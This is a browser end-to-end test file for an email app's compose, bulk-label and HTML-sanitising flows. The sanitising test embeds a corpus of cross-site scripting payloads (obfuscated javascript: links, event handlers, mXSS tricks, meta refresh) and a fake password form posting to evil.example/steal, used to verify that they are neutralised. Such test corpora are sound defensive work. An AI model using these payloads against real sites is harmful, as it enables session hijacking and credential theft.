// End-to-end flows of the email app in Chromium on the production build: compose and send, bulk labels, and hostile
// HTML bodies neutralised (RELIABILITY F1 + F3). Each test runs in a fresh context, so the mock DB starts from its seed.
import { dropInertParseReports, expect, expectNoAxeViolations, settle } from './fixtures.mjs';
import { apiCall, clickAndWaitUrl, expectClean, gone, mockDb, openSignedIn, requireRoutes, shown, stamp, until } from './flows.mjs';

const INBOX = '/apps/email/inbox';
const EMAIL_ROUTE = '/apps/email/:filter';

const mailRows = (page) => page.locator('ul[aria-label="Mails"] > li[data-mail-row]');
const folderLink = (page, name) =>
  page.getByRole('navigation', { name: 'Mail folders' }).getByRole('link', { name: new RegExp(`^${name}\\b`) });
/** Clicks a folder or label link in the mail sidebar and waits for its URL. */
const openFolder = (page, watcher, name, path) =>
  clickAndWaitUrl(page, watcher, folderLink(page, name), (u) => u.pathname === path, `the ${name} link did not open ${path}`);

/** The mail list of the current folder once it has loaded (rows or the empty state). */
async function loadedMailIds(page, watcher) {
  await settle(page, watcher);
  await shown(page.locator('ul[aria-label="Mails"], :text("No mails here")'), `mail list never loaded at ${new URL(page.url()).pathname}`);
  return mailRows(page).evaluateAll((rows) => rows.map((r) => Number(r.getAttribute('data-mail-row'))));
}

// ---------------------------------------------------------------------------------------------------------------
// RELIABILITY F1 + F3: hostile HTML bodies rendered through SafeHtml in a real browser.
const U2028 = '\u2028';
const HOSTILE_BODY = [
  '<p>Hostile corpus for the F1 check.</p>',
  '<script>window.__xss = "script"; alert(1)</script>',
  '<img src="x" onerror="window.__xss = \'img\'; alert(1)">',
  '<svg onload="window.__xss = \'svg\'"><circle r="4"></circle></svg>',
  '<a href="javascript:window.__xss=\'a\';alert(1)">plain js link</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab entity link</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal entity link</a>',
  `<a href="java${U2028}script:alert(1)">line separator link</a>`,
  '<a href="  JaVaScRiPt:alert(1)">mixed case link</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '<a href="vbscript:msgbox(1)">vbscript link</a>',
  '<iframe srcdoc="<script>parent.__xss=\'iframe\'</script>"></iframe>',
  '<math><mtext><a xlink:href="data:text/html,<script>alert(1)</script>">math link</a></mtext></math>',
  '<form action="https://evil.example/steal"><input type="password" name="pw"><button formaction="javascript:alert(1)">Verify</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=\'noscript\'>">mXSS noscript</p></noscript>',
  "<listing>&lt;img src=x onerror=window.__xss='listing'&gt;</listing>",
  '<details open ontoggle="window.__xss=\'details\'"><summary>details</summary>x</details>',
  '<div onmouseover="window.__xss=\'hover\'" onclick="window.__xss=\'click\'">hover target</div>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p>Safe links: <a href="https://ok.example/path?q=1" target="_self" rel="opener">https link</a> · ',
  '<a href="http://ok.example/plain">http link</a> · <a href="mailto:someone@example.com">mail link</a></p>',
  '<img src="https://images.example/pixel.png" alt="remote image">',
].join('');

/** Checks the rendered body(ies) of the open mail; returns a list of findings (empty = clean). */
async function inspectBody(page) {
  return page.evaluate(() => {
    const bodies = [...document.querySelectorAll('[aria-labelledby="mail-view-subject"] [data-slot="safe-html"]')];
    if (!bodies.length) return { findings: ['no [data-slot=safe-html] body in the mail view'], links: [] };
    const findings = [];
    const forbidden =
      'form, input, button, textarea, select, iframe, frame, object, embed, base, meta, link, script, style, svg, math, noscript, template';
    // Browsers ignore control characters and whitespace inside a scheme: compare without them.
    const squeeze = (v) => [...String(v)].filter((c) => c.charCodeAt(0) > 0x20 && c !== '\u2028' && c !== '\u2029').join('');
    const bad = (v) => /^(javascript|data|vbscript):/i.test(squeeze(v));
    const links = [];
    for (const body of bodies) {
      for (const el of body.querySelectorAll('*')) {
        for (const attr of el.attributes) {
          if (/^on/i.test(attr.name)) findings.push(`<${el.localName} ${attr.name}>`);
          if (
            ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'srcdoc', 'background'].includes(attr.name) &&
            (attr.name === 'srcdoc' || bad(attr.value))
          ) {
            findings.push(`<${el.localName} ${attr.name}="${attr.value.slice(0, 40)}">`);
          }
        }
      }
      for (const el of body.querySelectorAll(forbidden)) findings.push(`<${el.localName}> element`);
      for (const a of body.querySelectorAll('a')) {
        links.push({
          text: a.textContent.trim(),
          href: a.getAttribute('href'),
          target: a.getAttribute('target'),
          rel: a.getAttribute('rel'),
        });
      }
    }
    if (document.querySelector('base')) findings.push('<base> in the document');
    if (document.querySelector('meta[http-equiv]')) findings.push('<meta http-equiv> in the document');
    return { findings, links };
  });
}

async function checkHostileMail(page, watcher, label, dialogs) {
  const body = await shown(
    page.locator('[aria-labelledby="mail-view-subject"] [data-slot="safe-html"]'),
    `${label}: the mail view never showed a SafeHtml body`,
  );
  // Give any payload a chance to fire: hover and click the body, let images fail, wait for the network.
  await body.hover().catch(() => {});
  const target = page.locator('[aria-labelledby="mail-view-subject"]').getByText('hover target');
  if (await target.count()) await target.click({ timeout: 2000 });
  await settle(page, watcher);
  await page.waitForTimeout(250);
  const { findings, links } = await inspectBody(page);
  expect(findings.length === 0, `${label}: unsafe markup survived: ${[...new Set(findings)].slice(0, 6).join(', ')}`);
  for (const l of links) {
    if (l.href === null) continue;
    const proto = new URL(l.href).protocol;
    expect(['http:', 'https:', 'mailto:'].includes(proto), `${label}: link "${l.text}" kept protocol ${proto}`);
    expect(l.target === '_blank', `${label}: link "${l.text}" has target=${l.target}, expected _blank`);
    expect(l.rel === 'noopener noreferrer', `${label}: link "${l.text}" has rel="${l.rel}", expected "noopener noreferrer"`);
  }
  const canary = await page.evaluate(() => [window.__xss, window.parent.__xss, window.top.__xss].find((v) => v !== undefined));
  expect(canary === undefined, `${label}: canary window.__xss was set to ${JSON.stringify(canary)}`);
  expect(dialogs.length === 0, `${label}: a ${dialogs[0]} dialog fired`);
  return links;
}

export const tests = [
  {
    name: 'email: compose and send a mail, then find it in Sent',
    async run(t) {
      requireRoutes(t, EMAIL_ROUTE);
      const { page, watcher } = await openSignedIn(t, INBOX);
      const subject = `E2E compose ${stamp()}`;
      const text = `Body written by the flow test ${stamp()}`;
      await page.getByRole('button', { name: 'Compose', exact: true }).click();
      const dialog = await shown(page.getByRole('dialog', { name: 'New message' }), 'Compose did not open the "New message" dialog');
      await dialog.getByRole('textbox', { name: /^To\b/ }).fill('flow.recipient@example.com');
      await dialog.getByRole('textbox', { name: /^Subject\b/ }).fill(subject);
      const editor = await shown(dialog.locator('.ql-editor'), 'the rich-text editor (Quill) never loaded in the compose dialog');
      await editor.click();
      await page.keyboard.type(text);
      // No keyboard trap: Tab leaves the editor and types nothing; the toolbar's buttons and pickers have names.
      await page.keyboard.press('Tab');
      expect(
        await page.evaluate(() => !document.activeElement?.closest('.ql-editor')),
        'Tab stayed inside the message editor (keyboard trap)',
      );
      expect((await editor.innerText()).trim() === text, 'Tab changed the message text');
      await shown(dialog.getByRole('button', { name: 'Bold', exact: true }), 'the editor toolbar has no "Bold" button');
      await expectNoAxeViolations(page);
      await dialog.getByRole('button', { name: 'Send', exact: true }).click();
      await gone(page.getByRole('dialog', { name: 'New message' }), 'the compose dialog stayed open after Send');
      await shown(page.getByText('Message sent'), 'no "Message sent" toast after Send');
      expect(!(await mailRows(page).filter({ hasText: subject }).count()), 'the sent mail shows up in the Inbox');

      await openFolder(page, watcher, 'Sent', '/apps/email/sent');
      const row = await shown(mailRows(page).filter({ hasText: subject }), `the mail "${subject}" is not listed in Sent`);
      expect((await row.innerText()).includes('flow.recipient@example.com'), 'the Sent row does not name the recipient');
      await row.click();
      const view = await shown(
        page.locator('section[aria-labelledby="mail-view-subject"]'),
        'clicking the Sent row did not open the reading pane',
      );
      const heading = (await view.locator('#mail-view-subject').innerText()).trim();
      expect(heading === subject, `reading pane shows "${heading}", expected "${subject}"`);
      const body = await view.locator('[data-slot="safe-html"]').innerText();
      // Plain spaces, not Quill's &nbsp; (U+00A0), or the text could only wrap mid-word.
      expect(
        body.includes(text),
        `the opened mail body is ${JSON.stringify(body.slice(0, 80))}, expected it to contain ${JSON.stringify(text)}`,
      );
      expect(new URL(page.url()).searchParams.get('mail') !== null, 'opening a mail did not put ?mail= in the URL');
      expectClean(watcher, 'compose and send');
    },
  },
  {
    name: 'email: bulk-select three mails, apply a label, label view and unread counts follow',
    async run(t) {
      requireRoutes(t, EMAIL_ROUTE);
      const { page, watcher } = await openSignedIn(t, INBOX);
      const metaBefore = (await apiCall(page, 'GET', '/api/apps/email/meta')).body;
      expect(metaBefore?.unreadMails?.label, 'GET /api/apps/email/meta returned no label counts');

      await openFolder(page, watcher, 'Company', '/apps/email/company');
      const companyBefore = await loadedMailIds(page, watcher);
      await openFolder(page, watcher, 'Inbox', INBOX);
      await loadedMailIds(page, watcher);

      // Three inbox mails that do not carry the Company label yet (a row shows one dot per label, titled with its name).
      const candidates = mailRows(page).filter({ hasNot: page.locator('span[title="Company"]') });
      expect((await candidates.count()) >= 3, `only ${await candidates.count()} inbox mails without the Company label`);
      const picked = [];
      let unreadPicked = 0;
      for (let i = 0; i < 3; i++) {
        const row = candidates.nth(i);
        picked.push(Number(await row.getAttribute('data-mail-row')));
        if (await row.getByText('1 unread', { exact: true }).count()) unreadPicked += 1;
      }
      for (const id of picked) await page.locator(`li[data-mail-row="${id}"]`).getByRole('checkbox', { name: 'Select' }).check();
      await shown(page.getByText('3 selected', { exact: true }), 'the toolbar does not say "3 selected" after ticking three rows');
      const selectAll = page.getByRole('checkbox', { name: 'Select all' });
      expect(
        (await selectAll.getAttribute('aria-checked')) === 'mixed',
        `Select all is aria-checked=${await selectAll.getAttribute('aria-checked')} with a partial selection, expected mixed`,
      );

      await page.getByRole('button', { name: 'Label', exact: true }).click();
      await (await shown(page.getByRole('menuitemcheckbox', { name: 'Company' }), 'the Label menu has no "Company" entry')).click();
      await shown(page.getByText('Label “Company” added'), 'no "Label “Company” added" toast');
      await gone(page.getByText('3 selected', { exact: true }), 'the selection was not cleared after applying the label');
      for (const id of picked) {
        await shown(page.locator(`li[data-mail-row="${id}"] span[title="Company"]`), `mail ${id} shows no Company dot after labelling`);
      }
      await settle(page, watcher);

      await openFolder(page, watcher, 'Company', '/apps/email/company');
      const companyAfter = await until(
        page,
        () => loadedMailIds(page, watcher),
        (ids) => ids.length === companyBefore.length + 3,
        (ids) => `Company view lists ${ids.length} mails after labelling three, expected ${companyBefore.length + 3}`,
      );
      const missing = picked.filter((id) => !companyAfter.includes(id));
      expect(missing.length === 0, `labelled mails ${missing.join(', ')} are missing from the Company view`);

      const metaAfter = (await apiCall(page, 'GET', '/api/apps/email/meta')).body;
      const delta = metaAfter.unreadMails.label.company - metaBefore.unreadMails.label.company;
      expect(delta === unreadPicked, `unread Company count moved by ${delta}, expected ${unreadPicked} (unread mails among the three)`);
      // The change is stored, not only in the query cache: a reload shows the same list.
      await page.reload({ waitUntil: 'load' });
      const reloaded = await loadedMailIds(page, watcher);
      expect(
        reloaded.length === companyAfter.length,
        `after reload the Company view lists ${reloaded.length} mails, expected ${companyAfter.length}`,
      );
      expectClean(watcher, 'bulk label');
    },
  },
  {
    name: 'email: hostile HTML bodies are neutralised in Chromium (RELIABILITY F1 + F3)',
    async run(t) {
      requireRoutes(t, EMAIL_ROUTE);
      const { page, watcher } = await openSignedIn(t, INBOX);
      const dialogs = [];
      page.on('dialog', (d) => {
        dialogs.push(d.type());
        void d.dismiss().catch(() => {});
      });

      // 1. The seeded hostile mail (email.seed.ts XSS_BODY).
      const seeded = await shown(
        mailRows(page).filter({ hasText: 'Action required: confirm your billing details' }),
        'the seeded hostile mail is not in the inbox',
      );
      await seeded.click();
      await checkHostileMail(page, watcher, 'seeded mail', dialogs);

      // 2. A bigger corpus sent through the app's own endpoint, then opened from Sent.
      const subject = `F1 corpus ${stamp()}`;
      const sent = await apiCall(page, 'POST', '/api/apps/email/send', {
        mail: { to: ['victim@example.com'], subject, message: HOSTILE_BODY },
      });
      expect(
        sent.status === 201 && typeof sent.body?.id === 'number',
        `POST /api/apps/email/send answered ${sent.status} ${JSON.stringify(sent.body)}`,
      );
      const stored = (await mockDb(page, 'email-mails'))?.find?.((m) => m.id === sent.body.id);
      expect(stored?.message === HOSTILE_BODY, 'the corpus was not stored verbatim (the test would not prove display-time sanitising)');
      await page.goto(`${t.base}/apps/email/sent?mail=${sent.body.id}`, { waitUntil: 'load' });
      await shown(
        page.locator('#mail-view-subject').filter({ hasText: subject }),
        `the corpus mail ${sent.body.id} did not open from ?mail=`,
      );
      const links = await checkHostileMail(page, watcher, 'corpus mail', dialogs);

      // F3: the good links survive, with their protocol, in a new tab without opener or referrer.
      for (const [text, href] of [
        ['https link', 'https://ok.example/path?q=1'],
        ['http link', 'http://ok.example/plain'],
        ['mail link', 'mailto:someone@example.com'],
      ]) {
        const link = links.find((l) => l.text === text);
        expect(link, `the safe "${text}" was dropped from the body`);
        expect(link.href === href, `"${text}" points to ${link.href}, expected ${href}`);
      }
      for (const text of [
        'plain js link',
        'tab entity link',
        'decimal entity link',
        'line separator link',
        'mixed case link',
        'data link',
        'vbscript link',
      ]) {
        const link = links.find((l) => l.text === text);
        expect(!link || link.href === null, `"${text}" still has href ${link?.href}`);
      }
      const bodyText = await page.locator('[aria-labelledby="mail-view-subject"] [data-slot="safe-html"]').innerText();
      expect(bodyText.includes('Hostile corpus for the F1 check.'), 'the harmless text of the corpus was not rendered');
      expect(
        new URL(page.url()).pathname === '/apps/email/sent',
        `the page navigated away to ${new URL(page.url()).pathname} (meta refresh or base?)`,
      );
      dropInertParseReports(watcher);
      expectClean(watcher, 'hostile HTML');
    },
  },
];
